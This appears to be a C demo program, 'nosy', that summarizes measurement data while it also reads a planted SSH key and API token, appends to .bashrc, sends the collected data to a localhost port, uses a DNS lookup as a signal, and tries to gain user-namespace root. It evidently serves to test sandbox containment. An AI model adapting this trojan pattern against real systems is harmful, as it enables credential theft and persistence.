/* SPDX-License-Identifier: MIT */
/*
 * nosy - a program that does what it was fetched for, and a little more.
 *
 *   nosy MEASUREMENTS PORT
 *
 * It summarizes MEASUREMENTS in summary.csv. On the side it collects what it can find
 * beside its directory and in its environment, and sends that to PORT of this machine,
 * where the demo listens. It says honestly how each attempt went, one line each:
 * `+ name  what it got` or `- name  why it did not`.
 *
 * Everything it does is harmless when it works: it touches only what the demo has
 * planted for it, and tries for privileges in a child that ends at once.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include "stations.h"

#define SECRET "../home/.ssh/id_demo"
#define STARTUP_FILE "../home/.bashrc"
#define TOKEN "DEMO_API_TOKEN"
#define NAME "example.com"

/* What was found so far, to be sent away. */
static char loot[1024];

static void say(char sign, const char *attempt, const char *format, va_list args)
{
	printf("%c %-8s ", sign, attempt);
	vprintf(format, args);
	putchar('\n');
}

static void got(const char *attempt, const char *format, ...)
{
	va_list args;

	va_start(args, format);
	say('+', attempt, format, args);
	va_end(args);
}

static void failed(const char *attempt, const char *format, ...)
{
	va_list args;

	va_start(args, format);
	say('-', attempt, format, args);
	va_end(args);
}

static void keep(const char *found)
{
	size_t used = strlen(loot);

	snprintf(loot + used, sizeof(loot) - used, "%s\n", found);
}

static void read_secret(void)
{
	char text[256];
	ssize_t length;
	int fd = open(SECRET, O_RDONLY);

	if (fd < 0) {
		failed("secret", SECRET ": %s", strerror(errno));
		return;
	}
	length = read(fd, text, sizeof(text) - 1);
	close(fd);
	text[length > 0 ? length : 0] = '\0';
	text[strcspn(text, "\n")] = '\0';
	keep(text);
	got("secret", SECRET ": %zu characters", strlen(text));
}

static void read_token(void)
{
	const char *token = getenv(TOKEN);

	if (!token) {
		failed("token", TOKEN ": not set");
		return;
	}
	keep(token);
	got("token", TOKEN ": %zu characters", strlen(token));
}

/* A line that the next shell would run. */
static void change_startup_file(void)
{
	static const char line[] = "echo nosy was here\n";
	int fd = open(STARTUP_FILE, O_WRONLY | O_APPEND);

	if (fd < 0 || write(fd, line, sizeof(line) - 1) < 0)
		failed("write", STARTUP_FILE ": %s", strerror(errno));
	else
		got("write", STARTUP_FILE ": a line added");
	if (fd >= 0)
		close(fd);
}

static void phone_home(unsigned short port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = { htonl(INADDR_LOOPBACK) } };
	const char *message = *loot ? loot : "nothing found\n";
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 || write(fd, message, strlen(message)) < 0)
		failed("connect", "127.0.0.1:%u: %s", port, strerror(errno));
	else
		got("connect", "127.0.0.1:%u: %zu characters sent", port, strlen(message));
	if (fd >= 0)
		close(fd);
}

/* A name that is asked for is also a way to tell somebody something. */
static void look_up_name(void)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *addresses;
	int error;

	/* A machine without a network should not keep us waiting. */
	setenv("RES_OPTIONS", "timeout:1 attempts:1", 1);
	/* The dot at the end keeps the host's search domains out of it. */
	error = getaddrinfo(NAME ".", NULL, &hints, &addresses);
	if (error) {
		failed("lookup", NAME ": %s", gai_strerror(error));
		return;
	}
	freeaddrinfo(addresses);
	got("lookup", NAME ": has an address");
}

/* With a user namespace comes every capability in it. In a child, whose exit status is an errno. */
static void become_root(void)
{
	int status;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0)
		_exit(unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ? errno : 0);
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		failed("unshare", "a child: %s", strerror(errno));
	else if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		got("unshare", "root in a user namespace of its own");
	else
		failed("unshare", "a user namespace: %s", WIFEXITED(status) ? strerror(WEXITSTATUS(status)) : "killed");
}

int main(int argc, char **argv)
{
	int count;

	if (argc != 3) {
		fprintf(stderr, "usage: %s MEASUREMENTS PORT\n", argv[0]);
		return 2;
	}
	read_secret();
	read_token();
	change_startup_file();
	phone_home((unsigned short)atoi(argv[2]));
	look_up_name();
	become_root();
	count = stations_summarize(argv[1], "summary.csv");
	if (count < 0) {
		failed("summary", "%s: %s", argv[1], strerror(-count));
		return 1;
	}
	got("summary", "%d measurements summarized in summary.csv", count);
	return 0;
}
